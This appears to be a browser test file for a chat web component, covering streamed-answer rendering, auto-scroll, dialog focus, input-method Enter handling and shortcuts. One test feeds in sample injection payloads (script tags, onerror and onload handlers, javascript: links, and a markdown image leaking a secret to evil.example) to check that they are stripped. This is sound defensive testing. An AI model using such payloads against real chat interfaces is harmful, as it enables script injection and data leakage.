import { describe, expect, it } from 'vitest'
import { hasBrowser, openChat } from '../support/open-chat.ts'
import type { OpenedChat } from '../support/open-chat.ts'
import type { Turn } from '../support/scripted-server.ts'

/** An answer that stops where the test says, until the test lets it go on. */
function steppedAnswer() {
  const steps = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
  async function* respond({ stream }: Turn) {
    const pieces = ['First paragraph.\n\nSecond ', 'grows ', 'on.\n\n```sql\nSELECT 1', '\n```\n\nEnd.']
    let deltas = 0
    for (const event of stream('msg_1', pieces)) {
      yield event
      if (event.type !== 'thread.item.updated' || event.update.type !== 'assistant_message.content_part.text_delta')
        continue
      await steps[deltas]?.promise
      deltas += 1
    }
  }
  return { respond, goOn: (step: number) => steps[step]?.resolve() }
}

/** Remembers an element of the chat under a name, and counts what happens inside it. */
async function watch({ page }: OpenedChat, selector: string): Promise<void> {
  await page.evaluate((wanted) => {
    const node = document.querySelector('openai-chatkit')?.shadowRoot?.querySelector(wanted)
    if (!node) throw new Error(`There is no ${wanted}`)
    const state = { node, changes: 0 }
    Object.assign(window, { watched: state })
    new MutationObserver((records) => (state.changes += records.length)).observe(node, {
      childList: true,
      subtree: true,
      characterData: true,
      attributes: true,
    })
  }, selector)
}

function watched({ page }: OpenedChat): Promise<{ changes: number; isInPage: boolean }> {
  return page.evaluate(() => {
    const { node, changes } = (window as unknown as { watched: { node: Element; changes: number } }).watched
    return { changes, isInPage: node.isConnected }
  })
}

describe.skipIf(!hasBrowser)('an answer that streams', () => {
  it('draws only its last block again, and keeps the elements when it is done', async () => {
    const { respond, goOn } = steppedAnswer()
    const opened = await openChat({ respond })
    const { chat, ask } = opened
    await ask('Hello')
    await chat.getByText('Second', { exact: true }).waitFor()
    await watch(opened, '.message-assistant p')
    goOn(0)
    await chat.getByText('Second grows', { exact: true }).waitFor()
    goOn(1)
    await chat.getByText('End.').first().waitFor()
    await chat.getByRole('button', { name: 'Copy', exact: true }).waitFor()
    expect(await watched(opened)).toEqual({ changes: 0, isInPage: true })
  })

  it('keeps what the reader has selected in it', async () => {
    const { respond, goOn } = steppedAnswer()
    const { chat, page, ask } = await openChat({ respond })
    await ask('Hello')
    await chat.getByText('First paragraph.').first().selectText()
    const selected = () => page.evaluate(() => String(getSelection()))
    expect(await selected()).toBe('First paragraph.')
    goOn(0)
    goOn(1)
    await chat.getByRole('button', { name: 'Copy', exact: true }).waitFor()
    expect(await selected()).toBe('First paragraph.')
  })

  it('is followed until the reader turns away, and again from the end on', async () => {
    const lines = Array.from({ length: 60 }, (_, index) => `Line ${index}\n\n`)
    const gates = lines.map(() => Promise.withResolvers<void>())
    const { chat, page, ask } = await openChat({
      options: { thread: { autoScroll: true } },
      async *respond({ stream }) {
        let deltas = -3
        for (const event of stream('msg_1', lines)) {
          yield event
          deltas += 1
          await gates[deltas]?.promise
        }
      },
    })
    const go = (from: number, to: number) => gates.slice(from, to).forEach(({ resolve }) => resolve())
    const scroller = chat.locator('.scroller')
    const toEnd = () =>
      scroller.evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight)
    await ask('Hello')
    go(0, 40)
    await chat.getByText('Line 40', { exact: true }).waitFor()
    await expect.poll(toEnd).toBeLessThan(50)
    await scroller.hover()
    await page.mouse.wheel(0, -400)
    await expect.poll(toEnd).toBeGreaterThan(200)
    const before = await scroller.evaluate(({ scrollTop }) => scrollTop)
    go(40, 50)
    await chat.getByText('Line 50', { exact: true }).waitFor()
    expect(await scroller.evaluate(({ scrollTop }) => scrollTop)).toBe(before)
    await chat.getByRole('button', { name: 'Jump to the latest' }).click()
    await expect.poll(toEnd).toBeLessThan(50)
    go(50, 60)
    await chat.getByRole('button', { name: 'Copy', exact: true }).waitFor()
    await expect.poll(toEnd).toBeLessThan(50)
  })
})

describe.skipIf(!hasBrowser)('a dialog inside the shadow root', () => {
  it('keeps the focus, and gives it back to where it was', async () => {
    const { chat, page } = await openChat({})
    const focused = () =>
      page.evaluate(() => {
        const active = document.querySelector('openai-chatkit')?.shadowRoot?.activeElement
        return active?.closest('dialog') ? 'dialog' : active?.className
      })
    await chat.locator('textarea').focus()
    await page.keyboard.press('Control+/')
    await chat.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor()
    for (let press = 0; press < 3; press += 1) {
      expect(await focused()).toBe('dialog')
      await page.keyboard.press('Tab')
      // What is left of the way round is the browser's own controls.
      if ((await focused()) !== 'dialog') await page.keyboard.press('Tab')
    }
    await page.keyboard.press('Escape')
    await expect.poll(focused).toBe('field-input')
  })
})

describe.skipIf(!hasBrowser)('an Enter that belongs to an input method', () => {
  it.each([
    ['while it composes', { isComposing: true }],
    ['as browsers report a key that it took', { keyCode: 229 }],
  ])('sends nothing %s', async (_, press) => {
    const { chat } = await openChat({})
    const field = chat.locator('textarea')
    await field.fill('日本')
    await field.dispatchEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true, ...press })
    expect(await field.inputValue()).toBe('日本')
  })
})

describe.skipIf(!hasBrowser)('an answer that is meant to call elsewhere', () => {
  it('makes no element of its HTML, asks nobody, and names the host of each link', async () => {
    const answer = [
      '<img src="https://evil.example/a.png" onerror="document.title=1"> <script>document.title = 2</script>',
      '<svg onload="document.title=3"><use href="https://evil.example/b.svg#x"/></svg>',
      '![a chart](https://evil.example/c.png?secret=42)',
      '[click](javascript:document.title=4) [data](data:text/html,<script>1</script>) [shop](https://shop.example/x)',
      '<style>@import "https://evil.example/d.css"</style> <iframe src="https://evil.example"></iframe>',
    ].join('\n\n')
    // The page that the test opens fails it when anything is asked of another origin.
    const { chat, page, ask } = await openChat({ respond: ({ say }) => [say('msg_1', answer)] })
    await ask('Hello')
    const message = chat.locator('.message-assistant')
    await message.getByText('shop', { exact: true }).waitFor()
    expect(await message.locator('script, style, iframe, img, svg use').count()).toBe(0)
    expect(await message.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      'https://shop.example/x',
    ])
    const link = message.locator('a')
    expect(await link.getAttribute('rel')).toContain('noopener')
    expect(await link.getAttribute('title')).toContain('shop.example')
    await message.getByRole('button', { name: 'Show the image of evil.example' }).waitFor()
    expect(await page.title()).toBe('Chat')
  })
})

describe.skipIf(!hasBrowser)('shortcuts', () => {
  it('can be switched off, apart from Enter', async () => {
    const { chat, page, ask } = await openChat({
      respond: ({ say }) => [say('msg_1', 'Yes.')],
      options: { shortcuts: false },
    })
    await ask('Hello')
    await chat.getByRole('article', { name: 'Assistant' }).waitFor()
    await page.keyboard.press('Control+/')
    await page.keyboard.press('Control+Shift+O')
    expect(await chat.getByRole('dialog').count()).toBe(0)
    expect(await chat.getByRole('article', { name: 'Assistant' }).count()).toBe(1)
  })
})
